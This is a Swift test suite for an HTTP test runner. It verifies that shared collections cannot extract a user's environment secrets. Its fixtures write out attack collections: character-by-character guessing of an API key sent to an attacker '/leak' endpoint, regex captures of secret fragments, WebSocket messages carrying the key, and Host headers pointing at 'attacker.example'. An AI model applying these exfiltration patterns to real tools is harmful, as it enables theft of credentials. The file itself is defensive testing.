import Synchronization
import Testing
import VigilCore
@testable import VigilRunner
import VigilTestSupport

/// Issue 20 (probe 2): a shared collection cannot learn a secret of the user's environment from
/// what a comparison decides (a request run or skipped, a check passed, a poll ended), nor send
/// it in a WebSocket message or to another virtual host through a `Host` header.
@Suite struct SecretComparisonTests {
    static let environment = """
        name: Mine
        variables:
          baseUrl: BASE
          apiKey: "{{$env.K}}"
          pw: "{{$env.PW}}"
        secrets: [apiKey]
        auth:
          xp: { type: xprotect-basic, username: admin, password: "{{pw}}" }
          tok: { type: bearer, token: "{{$env.TOK}}" }
        defaults:
          headers: { X-Env-Key: "{{apiKey}}" }
        """
    static let process = ["K": "IdxSecret123", "PW": "PwSecret456", "TOK": "BearerTok789"]

    /// The probe's oracle: `when:` guessing a secret a character at a time, each guess a request
    /// to the attacker's server holding no secret itself. Every form of the comparison is refused
    /// (the request fails, naming the secret), none reaches the server.
    @Test func whenCannotCompareASecret() async throws {
        let attacker = try await ScriptedHTTPServer.start { _ in .send(httpResponse("{}")) }
        let mine = try await ScriptedHTTPServer.start { _ in .send(httpResponse("{}")) }
        defer {
            Task {
                await attacker.stop(); await mine.stop()
            }
        }
        let collection = """
            name: Innocent
            continueOnFailure: true
            variables: { guess: "IdxSecret123" }
            requests:
              - name: subject
                GET: "\(attacker.baseURL)/leak?c={{item}}"
                forEach: ['H', 'I', 'J']
                when: { apiKey: { matches: "^{{item}}" } }
              - name: password
                GET: "\(attacker.baseURL)/leak?p={{item}}"
                forEach: ['O', 'P']
                when: { pw: { startsWith: "{{item}}" } }
              - name: operand
                GET: "\(attacker.baseURL)/leak?eq"
                when: { guess: { eq: "{{apiKey}}" } }
              - name: nested operand
                GET: "\(attacker.baseURL)/leak?not"
                when: { guess: { not: { ne: "{{apiKey}}" } } }
            """
        let env = Self.environment.replacingOccurrences(of: "BASE", with: mine.baseURL)
        let result = try await SecretScopeTests().run(collection, env, processEnvironment: Self.process)
        #expect(result.results.count == 7)
        #expect(result.results.allSatisfy { $0.outcome == .failed }, "\(result.results.map { "\($0.outcome)" })")
        for r in result.results where r.ref.name.hasPrefix("password") == false {
            #expect(
                r.message == "not run: when: compares the secret 'apiKey': a comparison's outcome would reveal it", "\(r.message ?? "")")
        }
        for r in result.results where r.ref.name.hasPrefix("password") {
            #expect(r.message?.contains("compares the secret 'pw'") == true, "\(r.message ?? "")")
        }
        #expect(attacker.requestCount == 0)
    }

    /// A value a server issued (a cookie) is not the user's secret: it may be compared.
    @Test func aServerIssuedValueCanBeCompared() async throws {
        let mine = try await ScriptedHTTPServer.start { request in
            .send(httpResponse(#"{"token":"ServerTok1234"}"#, extra: "Set-Cookie: s=ServerCookie99\r\n"))
        }
        defer { Task { await mine.stop() } }
        let collection = """
            name: Issued
            requests:
              - GET: "{{baseUrl}}/login"
                capture: { sid: { cookie: s }, token: token }
              - GET: "{{baseUrl}}/next"
                when: { sid: { eq: ServerCookie99 } }
                expect: { body: { token: "{{token}}" } }
            """
        let env = Self.environment.replacingOccurrences(of: "BASE", with: mine.baseURL)
        let result = try await SecretScopeTests().run(collection, env, processEnvironment: Self.process)
        #expect(result.results.map(\.outcome) == [.passed, .passed], "\(result.results.map { $0.message ?? "" })")
        #expect(mine.requestCount == 2)
    }

    /// `expect:` (its value or its operand) and `retry.until` cannot compare a secret either: the
    /// check fails, not evaluated, and a poll stops at the first answer.
    @Test func checksAndPollsCannotCompareASecret() async throws {
        let mine = try await ScriptedHTTPServer.start { request in
            // Echoes the request's X-Env-Key header (the environment's secret) in its body.
            let key =
                request.split(separator: "\r\n").first { $0.lowercased().hasPrefix("x-env-key:") }.map { $0.dropFirst(10).trimmingCharacters(in: .whitespaces) }
                ?? ""
            return .send(httpResponse(#"{"echo":"\#(key)","n":1}"#))
        }
        defer { Task { await mine.stop() } }
        let collection = """
            name: Checks
            continueOnFailure: true
            requests:
              - name: subject
                GET: "{{baseUrl}}/a"
                expect: { body: { echo: { startsWith: I } } }
              - name: operand
                GET: "{{baseUrl}}/b"
                expect: { body: { n: { ne: "{{apiKey}}" } } }
              - name: poll
                GET: "{{baseUrl}}/c"
                retry: { until: { body: { echo: { matches: "^Idx" } } }, interval: 10ms, timeout: 2s }
              - name: harmless
                GET: "{{baseUrl}}/d"
                expect: { body: { n: 1 } }
              - name: equality with what the collection wrote
                GET: "{{baseUrl}}/e"
                expect: { body: { echo: { ne: a whole guess } } }
            """
        let env = Self.environment.replacingOccurrences(of: "BASE", with: mine.baseURL)
        let result = try await SecretScopeTests().run(collection, env, processEnvironment: Self.process)
        // Equality with a literal tells only whether the whole value is that guess (as a
        // request refused for holding it would): allowed, like `displayName: admin` when the
        // password is `admin`.
        #expect(result.results.map(\.outcome) == [.failed, .failed, .failed, .passed, .passed], "\(result.results.map { $0.message ?? "" })")
        for r in result.results.prefix(3) {
            let refused = r.checks.filter { $0.actual == "not checked: compares the secret 'apiKey': a comparison's outcome would reveal it" }
            #expect(refused.count == 1 && refused[0].failed, "\(r.checks.map(\.actual))")
        }
        #expect(result.results[2].attempts == 1)
        #expect(mine.requestCount == 5)
    }

    /// A capture's regex does not take a part of a value holding a secret (which no later check
    /// would recognise); a regex on other values still does.
    @Test func aCaptureRegexTakesNoPartOfASecret() async throws {
        let mine = try await ScriptedHTTPServer.start { request in
            let key =
                request.split(separator: "\r\n").first { $0.lowercased().hasPrefix("x-env-key:") }.map { $0.dropFirst(10).trimmingCharacters(in: .whitespaces) }
                ?? ""
            return .send(httpResponse(#"{"echo":"\#(key)","id":"cam-42"}"#))
        }
        defer { Task { await mine.stop() } }
        let collection = #"""
            name: Parts
            continueOnFailure: true
            requests:
              - name: part
                GET: "{{baseUrl}}/a"
                capture: { c: { path: echo, regex: "^.{3}(.)" } }
              - name: other
                GET: "{{baseUrl}}/b"
                capture: { n: { path: id, regex: 'cam-(\d+)' } }
            """#
        let env = Self.environment.replacingOccurrences(of: "BASE", with: mine.baseURL)
        let result = try await SecretScopeTests().run(collection, env, processEnvironment: Self.process)
        #expect(result.results.map(\.outcome) == [.failed, .passed], "\(result.results.map { $0.message ?? "" })")
        #expect(result.results[0].captures.isEmpty)
        #expect(
            result.results[0].checks.contains { $0.actual.hasPrefix("not captured: the value holds the secret 'apiKey'") },
            "\(result.results[0].checks.map(\.actual))")
        #expect(result.results[1].captures.first?.value.stringValue == "42")
    }

    /// A WebSocket message to an origin the environment does not name is searched like a body:
    /// the step is not sent (not even connected).
    @Test(arguments: [#"send: [ { a: "{{apiKey}}" } ]"#, #"send: [ "k={{apiKey}}" ]"#, #"send: [ '{"a":"\u0049dxSecret123"}' ]"#])
    func aWebSocketMessageCarriesNoSecretElsewhere(send: String) async throws {
        let elsewhere = try await ScriptedHTTPServer.start { _ in .send(httpResponse("", status: "400 Bad Request")) }
        defer { Task { await elsewhere.stop() } }
        let collection = """
            name: ws
            requests:
              - WS: "ws\(elsewhere.baseURL.dropFirst(4))/ws"
                \(send)
                timeout: 2s
            """
        let env = Self.environment.replacingOccurrences(of: "BASE", with: "http://127.0.0.1:9")
        let result = try await SecretScopeTests().run(collection, env, processEnvironment: Self.process)
        #expect(result.results.map(\.outcome) == [.failed])
        #expect(result.results[0].message?.hasPrefix("not sent: it holds the secret 'apiKey'") == true, "\(result.results[0].message ?? "")")
        #expect(elsewhere.requestCount == 0)
    }

    /// A `Host` header naming another host sends the request there as far as credentials go:
    /// auth, the environment's default headers and secrets only if that origin is named.
    @Test func aHostHeaderNamingAnotherHostIsThatOrigin() async throws {
        let seen = Mutex<[String]>([])
        let mine = try await ScriptedHTTPServer.start { request in
            seen.withLock { $0.append(request) }
            return .send(httpResponse("{}"))
        }
        defer { Task { await mine.stop() } }
        let port = mine.baseURL.split(separator: ":").last!
        let collection = """
            name: host
            continueOnFailure: true
            requests:
              - name: auth
                GET: "{{baseUrl}}/a"
                auth: tok
                headers: { Host: "attacker.example:\(port)" }
              - name: secret
                GET: "{{baseUrl}}/b"
                headers: { Host: "attacker.example", X-K: "{{apiKey}}" }
              - name: defaults
                GET: "{{baseUrl}}/c"
                headers: { Host: "attacker.example" }
              - name: own host
                GET: "{{baseUrl}}/d"
                auth: tok
                headers: { Host: "127.0.0.1:\(port)" }
              - name: not a host
                GET: "{{baseUrl}}/e"
                headers: { Host: "a@b/c" }
            """
        let env = Self.environment.replacingOccurrences(of: "BASE", with: mine.baseURL)
        let result = try await SecretScopeTests().run(collection, env, processEnvironment: Self.process)
        #expect(result.results.map(\.outcome) == [.error, .failed, .passed, .passed, .failed], "\(result.results.map { $0.message ?? "" })")
        #expect(result.results[0].message?.contains("not to http://attacker.example:\(port)") == true, "\(result.results[0].message ?? "")")
        #expect(
            result.results[1].message?.contains("the secret 'apiKey' and would go to http://attacker.example:80") == true, "\(result.results[1].message ?? "")")
        #expect(result.results[4].message?.contains("its Host header 'a@b/c' is not host[:port]") == true, "\(result.results[4].message ?? "")")
        let requests = seen.withLock { $0 }
        #expect(requests.map(requestPath) == ["/c", "/d"])
        #expect(!requests[0].contains("IdxSecret123") && !requests[0].lowercased().contains("x-env-key"), "\(requests[0])")
        #expect(requests[1].contains("Bearer BearerTok789") && requests[1].contains("IdxSecret123"))
    }
}
